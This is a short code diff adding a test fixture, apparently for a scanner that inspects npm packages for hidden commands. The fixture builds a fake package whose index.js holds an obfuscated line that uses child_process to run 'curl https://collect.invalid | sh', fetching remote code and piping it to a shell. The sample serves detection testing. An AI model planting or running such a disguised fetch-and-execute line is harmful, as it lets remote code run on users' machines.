@@ -115,3 +115,15 @@ export async function nested() {
   const { report: made, texts } = inspect(pkg, rules);
   return { reports: [made, report('other')], texts: new Map([[made.package.path, texts]]), inner };
 }
+
+/** A command behind names and numbers, found as it would be. */
+export async function obfuscated() {
+  const text = `const _0x1a=require('child_process');if(!![]){_0x1a['\\x65\\x78\\x65\\x63']('curl https://collect.invalid | sh')}\n`;
+  const pkg = await readMemory(
+    { files: { 'package.json': '{"name":"hidden","version":"1.0.0"}', 'index.js': text } },
+    {},
+    'node_modules/hidden',
+  );
+  const { report: made, texts } = inspect(pkg, rules);
+  return { reports: [made, report('other')], texts: new Map([[made.package.path, texts]]) };
+}
